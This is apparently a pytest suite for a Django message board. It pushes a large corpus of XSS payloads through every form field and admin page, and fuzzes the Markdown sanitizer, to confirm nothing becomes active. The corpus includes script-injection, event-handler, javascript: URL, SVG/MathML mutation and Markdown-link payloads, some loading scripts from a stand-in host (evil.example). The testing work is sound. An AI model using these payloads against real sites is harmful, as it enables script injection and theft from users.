"""Nothing a person types can run as code, or load anything, on anyone's page.

A corpus of markup, script, URL and Markdown tricks goes through every field a person can type
into, through the real forms, and every page that shows it back is parsed and searched for
anything active: scripts, event handlers, dangerous URL schemes, frames, plugins, SVG/MathML,
forms, srcdoc. Each page is compared with the same page made from harmless text, so the site's
own markup (the admin's scripts and icons, our forms) is told apart from anything injected.
"""

import re
from collections import Counter

import pytest
from bs4 import BeautifulSoup
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from board import services
from board.models import Conversation, Post
from board.sanitize import clean_html, render_markdown

pytestmark = pytest.mark.django_db

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script/xss src="data:,alert(1)"></script>',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    '<script\ttype="text/javascript">alert(1)</script>',
    "<script\nsrc=//evil.example/x.js></script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><script>alert(1)</script>-->",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    '<a onclick="alert(1)">x</a>',
    '<p style="x:expression(alert(1))">x</p>',
    "<button onclick=alert(1)>x</button>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<x onclick=alert(1)>click",
    "<a id=x tabindex=1 onbeforeactivate=alert(1)></a>",
    "<frameset onload=alert(1)>",
    '<xss style="behavior: url(x.htc);">',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<div/onmouseover='alert(1)'>x",
    "</p><img src=x onerror=alert(1)>",
]

LINK_SCHEMES = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    "<a href=javascript&#x3A;alert(1)>x</a>",
    f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    "<img src=`javascript:alert(1)`>",
    '<img srcset="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    f'<embed src="data:image/svg+xml;base64,{B64_SVG}">',
    '<applet code="x.class"></applet>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<input type="image" src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<table background="javascript:alert(1)">',
    '<div style="background-image: url(javascript:alert(1))">',
    '<bgsound src="javascript:alert(1);">',
    '<img dynsrc="javascript:alert(1)">',
]

SVG_AND_MATHML = [
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></svg>',
    '<math href="javascript:alert(1)">CLICK</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    '<img src onerror=alert(1)>">',
]

BROKEN_MARKUP = [
    '<img src="x" onerror="alert(1)"',
    '<a href="javascript:alert(1)"',
    "<<img src=x onerror=alert(1)//>",
    "<img src=x onerror=alert(1)//",
    "<a href='javascript:alert(1)'>unclosed",
    "<<a>a href=javascript:alert(1)>x</a>",
    "<a\nhref\n=\njavascript:alert(1)>x</a>",
    "<iframe/src=javascript:alert(1)>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "{{ 7|add:7 }} {% debug %} ${alert(1)} #{alert(1)}",
]

MARKDOWN_TRICKS = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javas&#99;ript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    f"[x](data:text/html;base64,{B64_SCRIPT})",
    "[x](vbscript:msgbox(1))",
    "[x](java\nscript:alert(1))",
    '[x](javascript:alert(1) "title")',
    "[x](javascript://%0aalert(1))",
    "[x](javascript://example.com%0Aalert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](j a v a s c r i p t:alert(1))",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example" onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    f"![x](data:image/svg+xml;base64,{B64_SVG})",
    '![x" onerror="alert(1)](https://ok.example/a.png)',
    '![x](https://ok.example/a.png" onerror="alert(1))',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "![x][img]\n\n[img]: data:text/html,<script>alert(1)</script>",
    '[ref]\n\n[ref]: javascript:alert(1) "t"',
    "[x][1]\n\n[1]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    '<https://ok.example/"onmouseover="alert(1)>',
    '<someone@example.test?subject="><script>alert(1)</script>>',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x](https://ok.example/<script>)",
    "*<script>alert(1)</script>*",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "- [x](javascript:alert(1))\n- <img src=x onerror=alert(1)>",
    'www.example.com/"onmouseover="alert(1)',
    "http://example.com/<script>alert(1)</script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "[x](javascript:alert(1))[y](data:text/html,x)[z](vbscript:x)",
]

PAYLOADS = SCRIPT_TAGS + EVENT_HANDLERS + LINK_SCHEMES + SVG_AND_MATHML + BROKEN_MARKUP
PAYLOADS += MARKDOWN_TRICKS
HARMLESS = "Plain words about a red scarf and a long train ride"

ACTIVE_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
    "math", "form", "input", "button", "textarea", "select", "img", "video", "audio",
    "source", "base", "meta", "link", "template", "noscript", "isindex", "keygen", "marquee",
    "bgsound",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
    "dynsrc", "lowsrc", "srcset", "codebase", "cite", "longdesc", "usemap", "ping", "to",
    "values", "from", "by",
}  # fmt: skip
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
SAFE = {None, "http", "https", "mailto", "tel", "sms"}  # None: relative; tel/sms: helplines
CONTROL_AND_SPACE = re.compile(r"[\x00-\x20\x7f-\x9f]+")


def test_the_corpus_is_large_and_varied():
    assert len(PAYLOADS) >= 100
    assert len(set(PAYLOADS)) == len(PAYLOADS)


C0_AND_SPACE = "".join(map(chr, range(0x21)))


def url_scheme(url: str) -> str | None:
    """The scheme a browser reads from a URL (WHATWG: C0 controls and spaces trimmed, tabs
    and newlines removed anywhere), or None for a relative URL."""
    url = re.sub(r"[\t\n\r]", "", url.strip(C0_AND_SPACE))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
    return match.group(1).lower() if match else None


def problems_in(html: str, soup=None) -> list[str]:
    """Anything active in a page, whoever put it there."""
    found = []
    for tag in (soup or BeautifulSoup(html, "html.parser")).find_all(True):
        for name, value in tag.attrs.items():
            name = name.lower()
            value = " ".join(value) if isinstance(value, list) else str(value)
            if name.startswith("on") or name == "srcdoc":
                found.append(f"<{tag.name} {name}>")
            if name in URL_ATTRIBUTES:
                candidates = value.split(",") if name == "srcset" else [value]
                for candidate in candidates:
                    squeezed = CONTROL_AND_SPACE.sub("", candidate).lower()
                    if squeezed.startswith(BAD_SCHEMES) or url_scheme(candidate) not in SAFE:
                        found.append(f"<{tag.name} {name}={value!r}>")
        inline = not tag.get("src") or tag.get_text().strip()
        if tag.name == "script" and inline and tag.get("type") != "application/json":
            found.append("inline <script>")
    return found


def structure(html: str, soup=None) -> Counter:
    """How many active elements (and styled elements) a page has."""
    soup = soup or BeautifulSoup(html, "html.parser")
    for rows in soup.find_all(id="result_list"):  # admin changelists: one row per match
        rows.decompose()
    counts = Counter(
        tag.name
        for tag in soup.find_all(ACTIVE_TAGS)
        if not (tag.name == "input" and tag.get("type") == "hidden")  # e.g. admin inline rows
    )
    counts["[style]"] = len(soup.find_all(style=True))
    return +counts


# Per flow, each page's structure when it shows only harmless text (one per test process).
BASELINES: dict[str, dict[str, Counter]] = {}


REFUSED = "We couldn’t understand that request"  # 400.html: a NUL in a query string


def assert_inert(pages: dict[str, str], baseline: dict[str, Counter], *, payload: str = ""):
    for name, html in pages.items():
        soup = BeautifulSoup(html, "html.parser")
        assert problems_in(html, soup) == [], name
        if "\x00" in payload and REFUSED in html:
            continue  # refused at the door (board.request_guards): not the baseline's page
        assert structure(html, soup) == baseline[name], name


def structures(pages: dict[str, str]) -> dict[str, Counter]:
    return {name: structure(html) for name, html in pages.items()}


# --- The flow: what people type, and every page that shows it back ---------------------


def fit(payload: str, length: int, minimum: int = 0) -> str:
    text = payload[:length]
    return text if len(text.strip()) >= minimum else (text + " padding words")[:length]


@pytest.fixture
def people(user, other_user, moderator, settings):
    settings.RATELIMIT_ENABLE = False
    author, reader, mod = Client(), Client(), Client()
    author.force_login(user)
    reader.force_login(other_user)
    mod.force_login(moderator)
    return {"author": author, "reader": reader, "moderator": mod, "visitor": Client()}


def write_post(payload: str, people, post_form_data, token: str) -> tuple[str, Post | None]:
    """The payload in every text field of the post form: previewed, then saved for review."""
    data = post_form_data(
        headline=fit(payload, 120, 5),
        story=f"Looking for {token}. {payload}\n\nWe met at {token} and I {payload}"[:4000],
        where_exactly=fit(payload, 120),
        i_saw=fit(payload, 200),
        i_am=fit(payload, 200),
        recognition_question=fit(payload, 200),
        action="preview",
    )
    create = reverse("board:post-create")
    # The preview shows every field back in the form, and the story rendered.
    preview = people["author"].post(create, data).content.decode()
    people["author"].post(create, {**data, "action": "review"})
    return preview, Post.objects.filter(story__contains=token).first()


def reply_flow(payload: str, people, post) -> dict[str, str]:
    """A private reply and a conversation carrying the payload, seen by both people and,
    once reported, by a moderator."""
    author, reader = people["author"], people["reader"]
    reply = reverse("board:post-reply", args=[post.public_id])
    reader.post(reply, {"answer": fit(payload, 300, 1), "message": fit(payload, 2000, 2)})
    conversation = Conversation.objects.filter(post=post).first()
    pages = {"inbox": author.get(reverse("board:inbox")).content.decode()}
    if conversation is None:
        return pages
    pages["conversation-request"] = author.get(conversation.get_absolute_url()).content.decode()
    address = conversation.public_id
    author.post(reverse("board:conversation-accept", args=[address]))
    author.post(reverse("board:conversation-send", args=[address]), {"body": fit(payload, 2000, 1)})
    reader.post(
        reverse("board:conversation-report", args=[address]), {"reason": fit(payload, 1000, 1)}
    )
    pages["conversation"] = reader.get(conversation.get_absolute_url()).content.decode()
    admin_page = reverse("admin:board_conversation_change", args=[conversation.pk])
    pages["admin-conversation"] = people["moderator"].get(admin_page).content.decode()
    return pages


def flow(payload: str, people, post_form_data, moderator, token: str) -> dict[str, str]:
    """Every field a person can type into, through the real forms; every page showing it."""
    author, visitor = people["author"], people["visitor"]
    pages = {}
    pages["preview"], post = write_post(payload, people, post_form_data, token)
    # Control characters (NUL too) are taken out on the way in: every payload is posted.
    assert post is not None, "the post form refused the payload"
    services.publish_post(post=post, moderator=moderator, reason="Checked.")
    post.refresh_from_db()
    pages["detail"] = author.get(post.get_absolute_url()).content.decode()
    pages["list"] = visitor.get("/").content.decode()
    pages["search-snippet"] = visitor.get("/", {"q": token}).content.decode()

    pages.update(reply_flow(payload, people, post))

    flag = reverse("board:post-flag", args=[post.public_id])
    people["reader"].post(flag, {"reason": "other", "note": fit(payload, 1000, 1)})
    takedown = reverse("board:post-takedown", args=[post.public_id])
    visitor.post(
        takedown, {"email": "me@example.test", "confirm": "on", "note": fit(payload, 1000)}
    )
    admin = people["moderator"]
    pages["admin"] = admin.get(reverse("admin:board_post_change", args=[post.pk])).content.decode()
    pages["admin-search"] = admin.get(
        reverse("admin:board_post_changelist"), {"q": payload}
    ).content.decode()

    reflection = {"title": fit(payload, 120), "body": fit(payload, 20_000, 1)}
    author.post(reverse("board:reflection-create"), reflection)
    pages["reflections"] = author.get(reverse("board:reflection-list")).content.decode()
    pages["search"] = visitor.get("/", {"q": payload}).content.decode()
    signup = {
        "email": fit(payload, 254),
        "password1": "a-long-test-password-42",
        "password2": "a-long-test-password-42",
        "is_adult": "on",
        "accepts_guidelines": "on",
    }
    pages["signup"] = visitor.post(reverse("account_signup"), signup).content.decode()
    return pages


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_every_field_stays_inert_on_every_page(
    payload, people, post_form_data, moderator
):
    if "flow" not in BASELINES:
        harmless = flow(HARMLESS, people, post_form_data, moderator, "zqbaseline")
        BASELINES["flow"] = structures(harmless)
        assert {"conversation", "admin-conversation"} <= set(harmless), "reply flow ran"
        people["visitor"] = Client()  # the takedown above left a message in its session
    pages = flow(payload, people, post_form_data, moderator, "zqpayloadtoken")
    assert_inert(pages, BASELINES["flow"], payload=payload)


# --- The sanitizer itself, with generated input -------------------------------------------

FRAGMENTS = [
    "<", ">", "</", "/>", '"', "'", "`", "=", "&", "&#", ";", ":", "(", ")", "[", "]", "!",
    "\n", "\n\n", "\t", " ", "\x0b", "\x0c", "*", "_", "> ", "- ", "1. ", "```", "    ",
    "script", "SCRIPT", "img", "svg", "math", "iframe", "object", "embed", "form", "style",
    "a", "href", "src", "srcdoc", "formaction", "xlink:href", "onerror", "onload", "ONCLICK",
    "javascript", "JaVaScRiPt", "java\tscript", "data", "vbscript", "alert(1)",
    "&#106;", "&#x6A;", "&colon;", "&Tab;", "&NewLine;", "%0a", "\\", "//", "http://x.y/",
    "mailto:", "<!--", "-->", "<![CDATA[", "]]>", "[x](", "![x](", "]: ", "<http", "www.",
]  # fmt: skip


@st.composite
def hostile_markdown(draw):
    """Mixes whole payloads, payload pieces and Markdown punctuation in random order."""
    parts = draw(
        st.lists(
            st.one_of(
                st.sampled_from(PAYLOADS),
                st.sampled_from(FRAGMENTS),
                st.text(max_size=8),
            ),
            max_size=25,
        )
    )
    return "".join(parts)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_markdown())
def test_rendered_markdown_is_idempotent_and_inert_for_hostile_input(source):
    once = render_markdown(source)
    assert clean_html(once) == once
    assert problems_in(once) == []
    assert not structure(once), structure(once)
    for tag in BeautifulSoup(once, "html.parser").find_all(True):
        assert tag.name in {
            "p", "br", "em", "strong", "blockquote", "ul", "ol", "li", "a", "code", "hr",
        }  # fmt: skip
        assert set(tag.attrs) <= {"href", "title", "rel"}
        if "href" in tag.attrs:
            assert url_scheme(tag["href"]) in SAFE, tag["href"]


def test_code_is_escaped_once_so_cleaning_again_changes_nothing():
    once = render_markdown("`a & b` and\n\n    <b>bold?</b>")
    assert "&amp;amp;" not in once
    assert clean_html(once) == once


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_renders_inert_markdown(payload):
    once = render_markdown(payload)
    assert problems_in(once) == []
    assert not structure(once)
    assert render_markdown(payload) == once
